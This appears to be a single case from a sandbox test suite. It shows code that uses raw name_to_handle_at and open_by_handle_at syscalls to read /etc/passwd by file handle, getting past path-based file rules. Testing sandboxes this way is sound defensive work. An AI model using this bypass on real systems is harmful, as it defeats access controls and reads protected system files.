// attack: Opens a file by its handle, which passes by every rule on paths.
// group: files
// at none: gets-through
// uses: native
// needs: x64, root

var (handle, mount) = (Native.Zeros(136), Native.Zeros(8));
Marshal.WriteInt32((nint)handle, 128);
var named = Native.Call(303, -100, Native.Text("/etc/passwd"), handle, mount, 0);
var folder = Native.Call(2, Native.Text("/etc"), 0x10000);
named < 0 ? null : Native.Read(Native.Call(304, folder, handle, 0))
